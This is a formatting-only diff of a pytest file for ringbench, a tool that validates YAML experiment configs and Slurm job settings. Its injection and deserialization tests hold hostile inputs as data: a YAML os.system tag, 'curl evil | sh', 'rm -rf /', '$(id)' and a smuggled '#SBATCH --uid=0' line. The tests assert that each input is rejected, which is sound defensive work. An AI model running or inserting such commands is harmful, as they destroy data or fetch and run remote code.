@@ -72,7 +72,9 @@ def test_plan_every_example_by_cli():
 # expansion
 # ---------------------------------------------------------------------------------------------
 def test_matrix_zip_exclude(tmp_path):
-    path = write(tmp_path, """
+    path = write(
+        tmp_path,
+        """
         name: mix
         base: {heads: 4, head_dim: 16, repeat: 2}
         matrix:
@@ -82,7 +84,8 @@ def test_matrix_zip_exclude(tmp_path):
             seq_len: [256, 512]
         exclude:
           - {mode: blocking, ranks: 1}
-    """)
+    """,
+    )
     exp = experiment.load(path)
     got = [(p.config.mode, p.nranks, p.config.seq_len) for p in exp.points]
     assert got == [("overlap", 1, 256), ("overlap", 2, 512), ("blocking", 2, 512)]
@@ -91,25 +94,34 @@ def test_matrix_zip_exclude(tmp_path):
 
 
 def test_ids_are_stable_across_loads_and_key_order(tmp_path):
-    a = write(tmp_path, """
+    a = write(
+        tmp_path,
+        """
         name: a
         base: {seq_len: 512, heads: 2}
         matrix: {mode: [overlap, blocking], causal: [false, true]}
         ranks: [2]
-    """, "a.yaml")
-    b = write(tmp_path, """
+    """,
+        "a.yaml",
+    )
+    b = write(
+        tmp_path,
+        """
         name: b
         base: {heads: 2, seq_len: 512, repeat: 7}
         matrix: {causal: [false, true], mode: [overlap, blocking]}
         ranks: [2]
-    """, "b.yaml")
+    """,
+        "b.yaml",
+    )
     ids_a = {p.id for p in experiment.load(a).points}
     assert ids_a == {p.id for p in experiment.load(a).points}
-    assert ids_a == {p.id for p in experiment.load(b).points}     # repeat does not change what is measured
+    assert ids_a == {p.id for p in experiment.load(b).points}  # repeat does not change what is measured
 
 
 def test_resolved_copy_reloads_to_the_same_points(tmp_path):
     from ringbench.sweep import Layout, write_snapshot
+
     exp = experiment.load(ROOT / "experiments" / "quick.yaml")
     lay = Layout(tmp_path, exp.name)
     lay.make()
@@ -122,95 +134,149 @@ def test_resolved_copy_reloads_to_the_same_points(tmp_path):
 # ---------------------------------------------------------------------------------------------
 # validation: one line naming file, line and key path
 # ---------------------------------------------------------------------------------------------
-@pytest.mark.parametrize("text, expected", [
-    ("""
+@pytest.mark.parametrize(
+    "text, expected",
+    [
+        (
+            """
         name: x
         matrix:
           seq_len: [256, 512, abc]
-     """, "FILE:3: matrix.seq_len[2]: expected an integer, got 'abc'"),
-    ("""
+     """,
+            "FILE:3: matrix.seq_len[2]: expected an integer, got 'abc'",
+        ),
+        (
+            """
         name: x
         base:
           seq_len: 512
           haeds: 4
-     """, "FILE:4: base.haeds: unknown key (did you mean 'heads'?)"),
-    ("""
+     """,
+            "FILE:4: base.haeds: unknown key (did you mean 'heads'?)",
+        ),
+        (
+            """
         name: x
         matirx: {mode: [overlap]}
-     """, "FILE:2: matirx: unknown key (did you mean 'matrix'?)"),
-    ("""
+     """,
+            "FILE:2: matirx: unknown key (did you mean 'matrix'?)",
+        ),
+        (
+            """
         name: x
         matrix:
           mode: [overlap, ring]
-     """, "FILE:3: matrix.mode[1]: expected one of overlap, blocking, allgather; got 'ring'"),
-    ("""
+     """,
+            "FILE:3: matrix.mode[1]: expected one of overlap, blocking, allgather; got 'ring'",
+        ),
+        (
+            """
         name: x
         base: {seq_len: 1002}
         matrix:
           layout: [contiguous, zigzag]
         ranks: [1, 2]
-     """, "FILE:2: base.seq_len: 1002 is not divisible by 4 (2 x ranks, layout zigzag at 2 ranks)"),
-    ("""
+     """,
+            "FILE:2: base.seq_len: 1002 is not divisible by 4 (2 x ranks, layout zigzag at 2 ranks)",
+        ),
+        (
+            """
         name: x
         base: {seq_len: 1024, heads: 4}
         matrix:
           kv_heads: [4, 2, 3]
-     """, "FILE:4: matrix.kv_heads[2]: must divide heads=4; got 3"),
-    ("""
+     """,
+            "FILE:4: matrix.kv_heads[2]: must divide heads=4; got 3",
+        ),
+        (
+            """
         name: x
         zip:
           - ranks: [1, 2]
             seq_len: [256]
-     """, "FILE:4: zip[0].seq_len: has 1 values but ranks has 2"),
-    ("""
+     """,
+            "FILE:4: zip[0].seq_len: has 1 values but ranks has 2",
+        ),
+        (
+            """
         name: x
         matrix: {mode: [overlap]}
         exclude:
           - {mode: blocking}
-     """, "FILE:4: exclude[0]: matches no point"),
-    ("""
+     """,
+            "FILE:4: exclude[0]: matches no point",
+        ),
+        (
+            """
         name: x
         matrix: {ranks: [1, 2]}
         ranks: [4]
-     """, "FILE:3: ranks: ranks are also swept in matrix.ranks; keep one"),
-    ("""
+     """,
+            "FILE:3: ranks: ranks are also swept in matrix.ranks; keep one",
+        ),
+        (
+            """
         name: x
         ranks: [2, 0]
-     """, "FILE:2: ranks[1]: expected a positive integer rank count, got 0"),
-    ("""
+     """,
+            "FILE:2: ranks[1]: expected a positive integer rank count, got 0",
+        ),
+        (
+            """
         name: x
         matrix: {repeat: [1, 2]}
-     """, "are the same measurement"),
-    ("""
+     """,
+            "are the same measurement",
+        ),
+        (
+            """
         name: x
         base: {seq_len: 256}
         base: {seq_len: 512}
-     """, "FILE:3: base: duplicate key"),
-    ("""
+     """,
+            "FILE:3: base: duplicate key",
+        ),
+        (
+            """
         name: "bad name"
-     """, "FILE:1: name: expected a name of letters"),
-    ("""
+     """,
+            "FILE:1: name: expected a name of letters",
+        ),
+        (
+            """
         name: x
         timeout: -1
-     """, "FILE:2: timeout: expected a positive number of seconds, got -1"),
-    ("""
+     """,
+            "FILE:2: timeout: expected a positive number of seconds, got -1",
+        ),
+        (
+            """
         name: x
         base: [1, 2]
-     """, "FILE:2: base: expected a mapping of keys to values, got a list"),
-    ("""
+     """,
+            "FILE:2: base: expected a mapping of keys to values, got a list",
+        ),
+        (
+            """
         name: x
         base: {seq_len: 512
-     """, "FILE:3: not valid YAML: expected ',' or '}'"),
-])
+     """,
+            "FILE:3: not valid YAML: expected ',' or '}'",
+        ),
+    ],
+)
 def test_errors_name_file_line_and_key(tmp_path, text, expected):
     assert expected in error_of(tmp_path, text)
 
 
 def test_safe_load_only(tmp_path):
-    msg = error_of(tmp_path, """
+    msg = error_of(
+        tmp_path,
+        """
         name: x
         base: !!python/object/apply:os.system ["echo hacked"]
-    """)
+    """,
+    )
     assert "not valid YAML" in msg
 
 
@@ -220,11 +286,14 @@ def test_missing_file(tmp_path):
 
 
 def test_cli_error_is_one_line_exit_2(tmp_path):
-    path = write(tmp_path, """
+    path = write(
+        tmp_path,
+        """
         name: x
         matrix:
           seq_len: [256, 512, abc]
-    """)
+    """,
+    )
     res = ringbench("plan", path)
     assert res.returncode == 2
     assert res.stderr.strip() == f"ringbench plan: {path}:3: matrix.seq_len[2]: expected an integer, got 'abc'"
@@ -239,12 +308,15 @@ def test_profile_merged_and_overridden(tmp_path):
     prof.mkdir(parents=True)
     (prof / "site.yaml").write_text("partition: gpu\ngpus_per_node: 4\nsetup: [module load cuda]\ntime: '01:00:00'\n")
     (tmp_path / "experiments").mkdir()
-    path = write(tmp_path / "experiments", """
+    path = write(
+        tmp_path / "experiments",
+        """
         name: x
         slurm:
           profile: site
           time: "00:20:00"
-    """)
+    """,
+    )
     spec = experiment.load(path).slurm
     assert (spec.partition, spec.gpus_per_node, spec.time, spec.profile) == ("gpu", 4, "00:20:00", "site")
     assert spec.setup == ["module load cuda"]
@@ -254,10 +326,13 @@ def test_unknown_profile_lists_available(tmp_path):
     prof = tmp_path / "slurm" / "profiles"
     prof.mkdir(parents=True)
     (prof / "juwels.yaml").write_text("partition: booster\n")
-    msg = error_of(tmp_path, """
+    msg = error_of(
+        tmp_path,
+        """
         name: x
         slurm: {profile: juwel}
-    """)
+    """,
+    )
     assert msg.startswith("FILE:2: slurm.profile: profile 'juwel' not found (did you mean 'juwels'?); available: ")
     assert "juwels" in msg.split("available: ")[1]
 
@@ -272,20 +347,23 @@ def test_error_in_profile_names_the_profile(tmp_path):
     assert str(info.value) == f"{prof / 'site.yaml'}:2: gpus_per_node: expected an integer >= 0, got 'many'"
 
 
-@pytest.mark.parametrize("slurm, expected", [
-    ('job_name: "x; rm -rf ~"', "slurm.job_name: expected letters"),
-    ('partition: "gpu\\n#SBATCH --uid=0"', "slurm.partition: expected a partition name"),
-    ('setup: ["module load cuda; curl evil | sh"]', "slurm.setup[0]: a setup line is one simple command"),
-    ('setup: ["echo $(id)"]', "slurm.setup[0]: a setup line is one simple command"),
-    ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: expected a one-line command"),
-    ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: expected one long sbatch option"),
-    ('sbatch: ["--array=0-99"]', "slurm.sbatch[0]: --array may not be given here: ringbench sets it"),
-    ('sbatch: ["--time=10"]', "slurm.sbatch[0]: --time may not be given here: use slurm.time"),
-    ('env: {"A B": x}', "slurm.env.A B: expected an environment variable name"),
-    ('launcher: mpirun', "slurm.launcher: expected one of srun, mpiexec; got 'mpirun'"),
-    ('time: "1 day"', "slurm.time: expected a Slurm time limit"),
-    ('gpu_per_node: 4', "slurm.gpu_per_node: unknown key (did you mean 'gpus_per_node'?)"),
-])
+@pytest.mark.parametrize(
+    "slurm, expected",
+    [
+        ('job_name: "x; rm -rf ~"', "slurm.job_name: expected letters"),
+        ('partition: "gpu\\n#SBATCH --uid=0"', "slurm.partition: expected a partition name"),
+        ('setup: ["module load cuda; curl evil | sh"]', "slurm.setup[0]: a setup line is one simple command"),
+        ('setup: ["echo $(id)"]', "slurm.setup[0]: a setup line is one simple command"),
+        ('setup: ["module load a\\nrm -rf /"]', "slurm.setup[0]: expected a one-line command"),
+        ('sbatch: ["--mem=8G\\nrm -rf /"]', "slurm.sbatch[0]: expected one long sbatch option"),
+        ('sbatch: ["--array=0-99"]', "slurm.sbatch[0]: --array may not be given here: ringbench sets it"),
+        ('sbatch: ["--time=10"]', "slurm.sbatch[0]: --time may not be given here: use slurm.time"),
+        ('env: {"A B": x}', "slurm.env.A B: expected an environment variable name"),
+        ("launcher: mpirun", "slurm.launcher: expected one of srun, mpiexec; got 'mpirun'"),
+        ('time: "1 day"', "slurm.time: expected a Slurm time limit"),
+        ("gpu_per_node: 4", "slurm.gpu_per_node: unknown key (did you mean 'gpus_per_node'?)"),
+    ],
+)
 def test_slurm_values_reaching_a_shell_are_validated(tmp_path, slurm, expected):
     msg = error_of(tmp_path, f"name: x\nslurm:\n  {slurm}\n")
     assert f"FILE:3: {expected}" in msg
